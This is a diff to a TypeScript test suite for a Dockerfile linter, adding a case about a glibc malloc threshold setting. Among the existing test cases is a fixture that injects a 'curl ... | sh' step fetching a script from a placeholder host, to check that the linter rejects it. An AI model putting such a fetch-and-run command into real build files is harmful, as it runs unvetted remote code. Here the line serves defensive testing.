@@ -30,6 +30,7 @@ describe('Dockerfile lint', () => {
     ['dev dependencies in the runtime', (d: string) => d.replace('npm ci --omit=dev --ignore-scripts', 'npm ci --ignore-scripts'), /--omit=dev/],
     ['a shell-form entrypoint', (d: string) => d.replace('ENTRYPOINT ["node", "/app/bin/entra-vault.js"]', 'ENTRYPOINT node /app/bin/entra-vault.js'), /ENTRYPOINT/],
     ['TMPDIR outside /work', (d: string) => d.replace('TMPDIR=/work', 'TMPDIR=/tmp'), /TMPDIR/],
+    ['glibc keeping freed blocks (no fixed mmap threshold)', (d: string) => d.replace('    MALLOC_MMAP_THRESHOLD_=131072 \\\n', ''), /MALLOC_MMAP_THRESHOLD_/],
     ['curl piped to sh', (d: string) => d.replace('RUN npm run build', 'RUN curl -fsSL https://x.example/i.sh | sh && npm run build'), /shell/],
   ])('rejects %s', (_name, mutate, message) => {
     const mutated = mutate(dockerfile);
